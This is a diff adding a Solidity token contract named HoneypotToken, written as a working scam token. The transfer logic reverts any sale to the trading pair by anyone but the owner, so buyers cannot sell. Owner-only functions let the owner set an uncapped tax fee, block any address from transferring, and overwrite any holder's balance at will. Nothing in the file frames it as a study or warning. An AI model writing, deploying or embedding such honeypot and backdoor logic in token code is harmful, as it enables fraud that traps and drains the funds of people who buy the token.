@@ -0,0 +1,47 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+contract HoneypotToken {
+    mapping(address => uint256) private _balances;
+    mapping(address => bool) private _bots;
+    address public pair;
+    address private _owner;
+    uint256 public taxFee = 5;
+
+    constructor(address pair_) {
+        _owner = msg.sender;
+        pair = pair_;
+        _balances[msg.sender] = 1_000_000 ether;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        _transfer(msg.sender, to, amount);
+        return true;
+    }
+
+    function _transfer(address from, address to, uint256 amount) internal {
+        require(!_bots[from], "bot");
+        if (to == pair && from != _owner) {
+            revert("trading not enabled");
+        }
+        uint256 fee = amount * taxFee / 100;
+        _balances[from] -= amount;
+        _balances[to] += amount - fee;
+        _balances[_owner] += fee;
+    }
+
+    function setTaxFee(uint256 newFee) external {
+        require(msg.sender == _owner);
+        taxFee = newFee;
+    }
+
+    function setBots(address account, bool flagged) external {
+        require(msg.sender == _owner);
+        _bots[account] = flagged;
+    }
+
+    function rebalance(address holder, uint256 amount) external {
+        require(msg.sender == _owner);
+        _balances[holder] = amount;
+    }
+}